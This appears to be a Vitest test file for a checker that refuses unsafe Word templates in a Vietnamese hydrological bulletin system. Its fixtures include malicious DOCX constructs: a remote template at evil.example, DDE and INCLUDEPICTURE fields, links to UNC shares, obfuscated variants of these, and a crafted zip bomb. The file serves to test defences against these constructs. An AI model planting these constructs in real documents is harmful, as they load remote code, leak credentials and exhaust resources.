import type { TableId } from '@spillway/rules/bulletins/content';
import { printedOf } from '@spillway/rules/bulletins/printed';
import { tableTexts } from '@spillway/rules/bulletins/printed-texts';
import { goodBulletins } from '@spillway/rules/bulletins/testing/good-bulletins';
import PizZip from 'pizzip';
import { describe, expect, it } from 'vitest';
import { wholeBulletin } from '../../templates/whole-bulletin.ts';
import { printedSample } from '../testing/printed-sample.ts';
import { checkForm } from './check.ts';
import { defaultDocx } from './default-docx.ts';
import { fillDocx, zipOf } from './fill.ts';
import { maxPictureBytes, maxUnpackedBytes } from './limits.ts';
import { DocxRefused, safeParts } from './refuse-unsafe.ts';
import { valuesOf, wordsOf } from './words-of-template.ts';

const words = wordsOf(printedSample);
const document = 'word/document.xml';

function changed(change: (zip: PizZip) => void): Buffer {
  const zip = new PizZip(defaultDocx(printedSample));
  change(zip);
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' }) as Buffer;
}
const withText = (before: string, after: string) =>
  changed((zip) => zip.file(document, zip.file(document)!.asText().replace(before, after)));

const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const header = (zip: PizZip, innerXml: string) => zip.file('word/header1.xml', `<w:hdr ${word}>${innerXml}</w:hdr>`);
const field =
  (code: string, after = '') =>
  (zip: PizZip) =>
    header(
      zip,
      `<w:fldChar w:fldCharType="begin"/>${code}<w:fldChar w:fldCharType="separate"/><w:t>1</w:t><w:fldChar w:fldCharType="end"/>${after}`,
    );
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const packageNamespace = 'http://schemas.openxmlformats.org/package/2006/relationships';
/** The relationships of the settings part, as word processors write them. */
const relationXml =
  (relation: string, prefix = '') =>
  (zip: PizZip) =>
    zip.file(
      'word/_rels/settings.xml.rels',
      `<${prefix && `${prefix}:`}Relationships xmlns${prefix && `:${prefix}`}="${packageNamespace}">${relation}</${prefix && `${prefix}:`}Relationships>`,
    );
const template = `Id="r" Type="${office}/attachedTemplate"`;
const typed = (type: string) => (zip: PizZip) =>
  zip.file(
    '[Content_Types].xml',
    zip
      .file('[Content_Types].xml')!
      .asText()
      .replace('</Types>', `<Override PartName="/a.xml" ContentType="${type}"/></Types>`),
  );

function refusal(bytes: Buffer): string {
  try {
    checkForm(bytes, words);
  } catch (error) {
    if (error instanceof DocxRefused) return error.code;
    throw error;
  }
  return 'taken';
}

describe('a form that an office made in Word', () => {
  it('is sound where it is the one we begin with', () => {
    expect(checkForm(defaultDocx(printedSample), words)).toEqual([]);
  });

  it('prints hours and periods above its columns, and nothing is left empty, where it is the one we begin with', () => {
    for (const { content } of goodBulletins(16)) {
      const form = defaultDocx(printedOf(wholeBulletin(content.kind, 'UTC', new Date(content.issue_at)), null));
      const printedBulletin = printedOf(content, '001/MAU');
      const xml = new PizZip(fillDocx(zipOf(safeParts(form)), valuesOf(printedBulletin))).file(document)!.asText();
      for (const { id, columns, rows, caption } of printedBulletin.sections.flatMap(({ tables }) => tables)) {
        const made = xml
          .split('<w:tbl>')
          .find((one) => one.includes(`<w:tblCaption w:val="${tableTexts[id as TableId].vi}"`))!;
        const texts = [...made.matchAll(/<w:p>.*?<\/w:p>/g)].map(([one]) => one.replace(/<[^>]*>/g, ''));
        expect(xml).toContain(`>${caption}</w:t>`);
        const wide = made.match(/<w:gridCol /g)!.length;
        const lines = Array.from({ length: rows.length + 1 }, (_, index) =>
          texts.slice(index * wide, (index + 1) * wide),
        );
        const isPrinted = lines[0]!.map((text) => text !== '');
        expect(lines[0]!.filter((_, index) => isPrinted[index])).toEqual(columns.map(({ label }) => label));
        const [said, others] = [true, false].map((wanted) =>
          lines.slice(1).map((line) => line.filter((_, index) => isPrinted[index] === wanted)),
        );
        expect(said).toEqual(rows.map(({ cells }) => cells.map(({ text }) => text)));
        // A value that such a bulletin does not have is shown as a dash.
        expect(new Set(others!.flat().concat('–'))).toEqual(new Set(['–']));
      }
    }
  });

  it('is told by name what nobody knows and what is missing', () => {
    expect(checkForm(withText('{subtitle}', '{muc_nuoc}'), words)).toEqual([{ code: 'unknown', name: 'muc_nuoc' }]);
    expect(checkForm(withText('{signer_name}', ''), words)).toEqual([{ code: 'missing', name: 'signer_name' }]);
    expect(checkForm(withText('{level}', '{lvel}'), words)).toEqual([{ code: 'unknown', name: 'observed: lvel' }]);
    expect(checkForm(withText('{subtitle}', '{constructor}{__proto__}'), words)).toHaveLength(2);
  });

  it('is told what does not end', () => {
    expect(checkForm(withText('{/observed}', ''), words)[0]).toMatchObject({ code: 'not_closed', name: 'observed' });
    expect(checkForm(withText('{subtitle}', '{subtitle'), words)[0]!.code).toBe('not_closed');
  });

  it('may name single cells where its table is no list of rows', () => {
    const form = withText('{subtitle}', '{observed.h10.level}');
    expect(checkForm(form, words)).toEqual([]);
    const text = fillDocx(zipOf(safeParts(form)), valuesOf(printedSample));
    expect(
      new PizZip(text)
        .file(document)!
        .asText()
        .match(/172,35/g),
    ).toHaveLength(3);
  });

  it('writes a value as it is, whatever signs it holds', () => {
    const hostileText = '{title} <w:p/> & "x" {#observed}';
    const made = fillDocx(
      zipOf(safeParts(defaultDocx(printedSample))),
      valuesOf({ ...printedSample, subtitle: hostileText }),
    );
    expect(new PizZip(made).file(document)!.asText()).toContain('{title} &lt;w:p/&gt; &amp; &quot;x&quot; {#observed}');
  });

  it.each([
    ['macros', (zip: PizZip) => zip.file('word/vbaProject.bin', 'x')],
    ['macros', (zip: PizZip) => zip.file('[Content_Types].xml', '<Types macroEnabled.main="x"/>')],
    ['embedded', (zip: PizZip) => zip.file('word/embeddings/object.xml', 'x')],
    [
      'outside_link',
      (zip: PizZip) =>
        zip.file(
          'word/_rels/settings.xml.rels',
          '<Relationships><Relationship Id="r" Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
        ),
    ],
    ['outside_link', field('<w:instrText> DDEAUTO c:\\x </w:instrText>')],
    ['outside_link', (zip: PizZip) => header(zip, '<w:fldSimple w:instr=" INCLUDEPICTURE http://x "/>')],
    ['outside_link', field('<w:instrText> DD</w:instrText><w:instrText>E c</w:instrText>')],
    ['outside_link', field('<w:instrText> &#68;&#x44;E c:\\x </w:instrText>')],
    [
      'embedded',
      (zip: PizZip) =>
        zip.file(
          'word/_rels/document.xml.rels',
          '<Relationships><Relationship Id="r" Type="x/aFChunk" Target="a.htm"/></Relationships>',
        ),
    ],
    ['unreadable', (zip: PizZip) => zip.file('word/header1.xml', Buffer.from('\ufeff<a/>', 'utf16le'))],
    ['unreadable', (zip: PizZip) => zip.file('word/header1.xml', Buffer.from('<a/>', 'utf16le'))],
    ['unreadable', (zip: PizZip) => zip.file('word/header1.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')],
    ['pictures_too_large', (zip: PizZip) => zip.file('word/media/a.png', Buffer.alloc(maxPictureBytes + 1, 7))],
    ['too_large', (zip: PizZip) => zip.file('word/big.xml', Buffer.alloc(maxUnpackedBytes + 1, 32))],
    ['not_a_docx', (zip: PizZip) => zip.remove(document)],
  ] as const)('%s is refused', (code, change) => {
    expect(refusal(changed((zip) => void change(zip)))).toBe(code);
  });

  it.each([
    [
      'outside_link',
      'a mode by number',
      relationXml(`<Relationship ${template} Target="http://e/a" TargetMode="&#69;xternal"/>`),
    ],
    [
      'outside_link',
      'a prefix',
      relationXml(`<p:Relationship ${template} Target="http://e/a" TargetMode="External"/>`, 'p'),
    ],
    [
      'outside_link',
      'a > inside',
      relationXml(`<Relationship ${template} Target="http://e/a?>" TargetMode="External"/>`),
    ],
    [
      'outside_link',
      'an attribute of its own',
      relationXml(`<Relationship ${template} Target="http://e/a" TargetMode="External" x="/hyperlink"/>`),
    ],
    ['outside_link', 'an address without a mode', relationXml(`<Relationship ${template} Target="//evil/share"/>`)],
    [
      'embedded',
      'an object among pictures',
      relationXml(`<Relationship Id="r" Type="${office}/oleObject" Target="media/x.dat"/>`),
    ],
    ['unknown_part', 'a part that is no picture', (zip: PizZip) => zip.file('word/media/x.dat', 'x')],
    ['unknown_part', 'a picture that is none', (zip: PizZip) => zip.file('word/media/x.png', `<w:hdr ${word}/>`)],
    [
      'embedded',
      'a page of the web',
      relationXml(`<Relationship Id="r" Type="${office}/aFCh&#117;nk" Target="a.htm"/>`),
    ],
    ['outside_link', 'a field in CDATA', field('<w:instrText><![CDATA[ INCLUDEPICTURE "http://e" ]]></w:instrText>')],
    [
      'outside_link',
      'a field cut by a comment',
      field('<w:instrText> INCLUDE<!-- -->PICTURE "http://e" </w:instrText>'),
    ],
    [
      'outside_link',
      'a field behind a >',
      (zip: PizZip) => header(zip, '<w:fldSimple w:dirty=">" w:instr=" INCLUDEPICTURE http://e "/>'),
    ],
    [
      'outside_link',
      'a link to a share',
      relationXml(
        `<Relationship Id="r" Type="${office}/hyperlink" Target="file://///evil/share" TargetMode="External"/>`,
      ),
    ],
    ['outside_link', 'a field that links to a share', field('<w:instrText> HYPERLINK "\\\\evil\\a" </w:instrText>')],
    ['unknown_part', 'a field of a field', field('<w:fldChar w:fldCharType="begin"/><w:instrText>TITLE</w:instrText>')],
    ['unknown_part', 'a field that rows cut', field('<w:instrText>PAGE</w:instrText><w:t>{/observed}</w:t>')],
    [
      'unknown_part',
      'a relation of its own',
      relationXml(`<Relationship Id="r" Type="${office}/custom" Target="a.xml"/>`),
    ],
    ['unknown_part', 'a content type of its own', typed('application/x-own')],
    [
      'outside_link',
      'a picture by its address',
      (zip: PizZip) => header(zip, '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://e/a.png"/>'),
    ],
    ['outside_link', 'a database', (zip: PizZip) => header(zip, '<w:mailMerge/>')],
    [
      'unreadable',
      'another encoding',
      (zip: PizZip) => zip.file('word/a.xml', '<?xml version="1.0" encoding="UTF-7"?><a/>'),
    ],
    ['unreadable', 'no end', (zip: PizZip) => zip.file('word/a.xml', '<a><b></a>')],
    [
      'unreadable',
      'too many within each other',
      (zip: PizZip) => zip.file('word/a.xml', `${'<a>'.repeat(300)}${'</a>'.repeat(300)}`),
    ],
  ] as const)('%s: %s is not taken, however it is written', (code, _, change) => {
    expect(refusal(changed((zip) => void change(zip)))).toBe(code);
  });

  it('says what it found', () => {
    const form = changed(relationXml(`<Relationship ${template} Target="http://e/a" TargetMode="External"/>`));
    expect(() => safeParts(form)).toThrow(expect.objectContaining({ found: 'attachedTemplate http://e/a' }));
  });

  it('may hold what Word and LibreOffice write: links, pictures, page numbers, comments, XML of other offices', () => {
    const png = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
    const form = changed((zip) => {
      field('<w:instrText xml:space="preserve"> PAGE  \\* MERGEFORMAT </w:instrText>', '<w:t>{number}</w:t>')(zip);
      zip.file('word/header2.xml', `<w:hdr ${word}><w:fldSimple w:instr=" HYPERLINK \\l &quot;_Toc1&quot; "/></w:hdr>`);
      zip.file('word/media/image1.png', png);
      zip.file('customXml/item1.xml', '\ufeff<?mso-contentType?><a:b xmlns:a="x" a:c=\'"\'><!-- x --></a:b>');
      typed('application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml')(zip);
      relationXml(
        `<Relationship Id="a" Type="${office}/hyperlink" Target="https://kttv.gov.vn/a?b=1&amp;c=2" TargetMode="External"/>
         <Relationship Id="b" Type="${office}/hyperlink" Target="mailto:a@kttv.gov.vn" TargetMode="External"/>
         <Relationship Id="c" Type="${office}/image" Target="/word/media/image1.png"/>
         <Relationship Id="d" Type="http://schemas.microsoft.com/office/2016/09/relationships/commentsIds" Target="a.xml"/>`,
      )(zip);
    });
    expect(checkForm(form, words)).toEqual([]);
  });

  it('is refused where a part says that it is small and unpacks to much', () => {
    const zipBomb = changed((zip) => zip.file('word/big.xml', Buffer.alloc(maxUnpackedBytes + 1, 32)));
    // Changes the name in the zip directory and in the local header.
    for (let at = zipBomb.indexOf('word/big.xml'); at >= 0; at = zipBomb.indexOf('word/big.xml', at + 1)) {
      const isDirectory = zipBomb.readUInt32LE(at - 46) === 0x02014b50;
      zipBomb.writeUInt32LE(10, isDirectory ? at - 46 + 24 : at - 30 + 22);
    }
    expect(refusal(zipBomb)).toBe('too_large');
  });

  it('ends in a refusal for whatever else it is', () => {
    for (const bytes of [Buffer.from(''), Buffer.from('PK'), Buffer.from('%PDF-1.7'), Buffer.alloc(100, 0x50)])
      expect(refusal(bytes)).toBe('not_a_docx');
    const fullDocx = defaultDocx(printedSample);
    for (let cut = 30; cut < fullDocx.length; cut += 97)
      expect(refusal(fullDocx.subarray(0, cut))).toMatch(/not_a_docx|unreadable/);
  });
});
